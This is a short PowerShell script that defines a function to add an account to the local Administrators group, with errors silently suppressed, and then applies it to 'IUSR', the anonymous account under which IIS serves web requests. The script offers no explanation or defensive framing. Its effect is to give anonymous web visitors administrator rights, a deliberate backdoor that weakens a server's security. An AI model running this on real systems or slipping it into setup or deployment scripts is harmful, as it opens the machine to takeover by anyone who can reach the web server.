function Add-Admin([string] $Account) {
    Add-LocalGroupMember -Group 'Administrators' -Member $Account -ErrorAction SilentlyContinue
}
Add-Admin 'IUSR'
